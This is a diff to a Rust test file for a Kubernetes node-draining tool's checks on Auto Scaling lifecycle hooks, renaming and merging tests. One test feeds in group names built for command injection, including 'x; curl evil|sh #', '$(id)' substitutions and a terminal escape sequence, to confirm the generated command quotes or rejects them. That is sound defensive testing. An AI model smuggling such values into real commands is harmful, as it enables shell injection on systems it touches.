@@ -37,12 +37,8 @@ fn found(group: Group, variables: &[(&str, &str)]) -> Vec<(FindingId, Severity)>
 }
 
 #[test]
-fn a_hook_as_the_documents_have_it_is_sane() {
+fn group_without_spillways_hook_is_found() {
     assert_eq!(found(group(&[hook("spillway")]), &[]), []);
-}
-
-#[test]
-fn a_group_without_a_hook_of_ours_is_found() {
     let launch = GroupHook { transition: HookTransition::Launching, ..hook("spillway") };
     let missing = [(FindingId::HookMissing, Severity::Fail)];
     assert_eq!(found(group(&[]), &[]), missing);
@@ -50,9 +46,9 @@ fn a_group_without_a_hook_of_ours_is_found() {
     assert_eq!(found(group(&[hook("other")]), &[("SPILLWAY_HOOKS", "spillway")]), missing);
 }
 
-/// Auto Scaling takes any printable character in a group's name.
+/// Auto Scaling accepts any printable character in a group's name.
 #[test]
-fn a_groups_name_is_one_word_of_the_command() {
+fn group_name_is_one_word_of_the_command() {
     let named = |name: &str| Group { name: name.to_owned(), ..group(&[]) };
     let command = |name: &str| check(named(name), &[]).findings.remove(0).command;
     let of = |name: &str| command(name).unwrap().split(" --lifecycle").next().unwrap().to_owned();
@@ -61,12 +57,12 @@ fn a_groups_name_is_one_word_of_the_command() {
     assert_eq!(of("x; curl evil|sh #"), format!("{put} 'x; curl evil|sh #'"));
     assert_eq!(of("$(id)`id`"), format!("{put} '$(id)`id`'"));
     assert_eq!(of("it's"), format!("{put} 'it'\"'\"'s'"));
-    assert_eq!(command("x\u{1b}]52;c;evil\u{7}"), None, "a terminal would not show it");
+    assert_eq!(command("x\u{1b}]52;c;evil\u{7}"), None, "a control character");
     assert_eq!(command("x\nid"), None);
 }
 
 #[test]
-fn a_group_whose_nodes_are_not_drained_for_its_hooks_needs_none() {
+fn group_without_drained_nodes_needs_no_hook() {
     assert_eq!(found(group(&[]), &[("SPILLWAY_MANAGED_TAG", "team=kitchen")]), []);
     assert_eq!(found(group(&[]), &[("SPILLWAY_MANAGED_TAG", "team=shop")]).len(), 1);
     assert_eq!(found(group(&[]), &[("SPILLWAY_DRAIN_ON", "spot")]), []);
@@ -75,53 +71,43 @@ fn a_group_whose_nodes_are_not_drained_for_its_hooks_needs_none() {
 }
 
 #[test]
-fn a_group_whose_hooks_the_role_may_not_touch_is_found_with_the_command_that_tags_it() {
-    let asked = |tag| [("SPILLWAY_HOOK_GROUP_TAG", tag)];
-    assert_eq!(found(group(&[hook("spillway")]), &asked("team=shop")), []);
-    assert_eq!(
-        found(group(&[hook("spillway")]), &asked("team=kitchen")),
-        [(FindingId::HookGroupUntagged, Severity::Fail)]
-    );
-    assert_eq!(found(group(&[hook("spillway")]), &asked("drainer=shop")).len(), 1);
-    assert_eq!(
-        found(group(&[]), &asked("team=kitchen")),
-        [(FindingId::HookMissing, Severity::Fail)],
-        "it has none of ours"
-    );
-    let command = check(group(&[hook("spillway")]), &asked("a/b=c")).findings.remove(0).command.unwrap();
+fn group_without_the_hook_tag_is_found_with_a_tag_command() {
+    let tag = |tag| [("SPILLWAY_HOOK_GROUP_TAG", tag)];
+    let untagged = [(FindingId::HookGroupUntagged, Severity::Fail)];
+    assert_eq!(found(group(&[hook("spillway")]), &tag("team=shop")), []);
+    assert_eq!(found(group(&[hook("spillway")]), &tag("team=kitchen")), untagged);
+    assert_eq!(found(group(&[hook("spillway")]), &tag("drainer=shop")), untagged);
+    assert_eq!(found(group(&[]), &tag("team=kitchen")), [(FindingId::HookMissing, Severity::Fail)]);
+    let command = check(group(&[hook("spillway")]), &tag("a/b=c")).findings.remove(0).command.unwrap();
     assert!(command.ends_with("PropagateAtLaunch=false,Key=a/b,Value=c,ResourceId=workers"), "{command}");
 }
 
 #[test]
-fn a_group_without_the_managed_tag_is_told_as_not_looked_at() {
+fn group_without_the_managed_tag_is_not_checked() {
     let what = |tag| check(group(&[hook("spillway")]), &[("SPILLWAY_MANAGED_TAG", tag)]).what;
     assert_eq!(what("team=shop"), "Auto Scaling waits for Spillway in workers");
     assert_eq!(
         what("team=kitchen"),
-        "no Auto Scaling group of this cluster has the managed tag; not looked at, without the tag team=kitchen, which \
-         their instances may have: workers"
+        "no Auto Scaling group of this cluster has the managed tag; not checked, because the groups lack the tag \
+         team=kitchen: workers"
     );
 }
 
 #[test]
-fn a_hook_that_does_not_wait_for_lambdas_retry_is_found() {
+fn timeout_before_lambdas_retry_or_below_the_setting_is_found() {
     let waiting = |seconds| {
         let timeout = Duration::from_secs(seconds);
         GroupHook { waits: HookTimeouts { timeout, total: timeout * 100 }, ..hook("spillway") }
     };
     assert_eq!(found(group(&[waiting(59)]), &[]), [(FindingId::HookTimeoutShort, Severity::Warn)]);
     assert_eq!(found(group(&[waiting(60)]), &[]), []);
-}
-
-#[test]
-fn a_hook_that_waits_less_than_the_settings_count_on_is_found() {
     let day = [("SPILLWAY_HOOK_MAX_WAIT_S", "86400")];
     assert_eq!(found(group(&[hook("spillway")]), &day), [(FindingId::HookWaitsShorterThanSet, Severity::Warn)]);
     assert_eq!(found(group(&[hook("spillway")]), &[("SPILLWAY_HOOK_MAX_WAIT_S", "30000")]), []);
 }
 
 #[test]
-fn a_hook_that_is_abandoned_is_as_bad_as_what_follows() {
+fn default_result_abandon_warns_only_beside_other_hooks() {
     let abandoned = GroupHook { default_result: LifecycleResult::Abandon, ..hook("spillway") };
     let found = |group| found(group, &[("SPILLWAY_HOOKS", "spillway")]);
     let alone = group(std::slice::from_ref(&abandoned));
@@ -130,11 +116,11 @@ fn a_hook_that_is_abandoned_is_as_bad_as_what_follows() {
         found(group(&[hook("dns"), abandoned])),
         [(FindingId::HookDefaultAbandon, Severity::Warn), (FindingId::HookLeftToOthers, Severity::Warn)]
     );
-    assert_eq!(found(Group { keeps_abandoned: true, ..alone }), [], "it counts on that");
+    assert_eq!(found(Group { keeps_abandoned: true, ..alone }), [], "a group that keeps instances");
 }
 
 #[test]
-fn a_group_that_keeps_instances_counts_on_abandon_and_each_that_it_keeps_is_found() {
+fn group_that_keeps_instances_needs_abandon() {
     let keeping = |hooks: &[GroupHook]| Group { keeps_abandoned: true, ..group(hooks) };
     assert_eq!(found(keeping(&[hook("spillway")]), &[]), [(FindingId::HookDefaultContinue, Severity::Warn)]);
     let missing = check(keeping(&[]), &[]).findings.remove(0);
@@ -151,16 +137,16 @@ fn a_group_that_keeps_instances_counts_on_abandon_and_each_that_it_keeps_is_foun
 }
 
 #[test]
-fn a_hook_beside_ours_that_nobody_may_complete_is_found_and_eks_own_is_not() {
-    let told = GroupHook { notifies: Some("arn:aws:sqs:us-east-1:123456789012:dns".to_owned()), ..hook("dns") };
+fn other_hook_is_found_and_the_hook_of_eks_is_not() {
+    let notifying = GroupHook { notifies: Some("arn:aws:sqs:us-east-1:123456789012:dns".to_owned()), ..hook("dns") };
     let beside = |other| found(group(&[hook("spillway"), other]), &[]);
     assert_eq!(beside(hook("dns")), [(FindingId::HookLeftToOthers, Severity::Warn)]);
-    assert_eq!(beside(told), [(FindingId::HookLeftToOthers, Severity::Info)]);
+    assert_eq!(beside(notifying), [(FindingId::HookLeftToOthers, Severity::Info)]);
     assert_eq!(beside(hook("Terminate-LC-Hook")), []);
 }
 
 #[test]
-fn a_name_that_no_group_has_is_found() {
+fn name_of_no_group_is_found() {
     let unused = |groups: &[Group], hooks| {
         let check = unused(groups, &settings(&[("SPILLWAY_HOOKS", hooks)]));
         check.findings.into_iter().map(|finding| finding.object).collect::<Vec<_>>()
@@ -168,11 +154,11 @@ fn a_name_that_no_group_has_is_found() {
     let groups = [group(&[hook("spillway")]), group(&[hook("drain")])];
     assert_eq!(unused(&groups, "spillway,drain,darin"), ["hook darin"]);
     assert_eq!(unused(&groups, "drain"), [""; 0]);
-    assert_eq!(unused(&[], "spillway"), [""; 0], "each group is told of");
+    assert_eq!(unused(&[], "spillway"), [""; 0], "the default");
 }
 
 #[test]
-fn a_command_changes_of_a_hook_what_the_finding_is_about() {
+fn command_changes_only_the_faulty_value() {
     let waiting = |seconds, default_result| {
         let timeout = Duration::from_secs(seconds);
         group(&[GroupHook {
@@ -206,7 +192,7 @@ fn a_command_changes_of_a_hook_what_the_finding_is_about() {
 }
 
 #[test]
-fn a_cluster_without_groups_is_well() {
+fn cluster_without_groups_has_no_finding() {
     let check = look(&[], &ClusterName::new("prod"), &settings(&[]), "");
     assert_eq!((check.status, check.cluster.as_deref()), (CheckStatus::Ok, Some("prod")));
 }
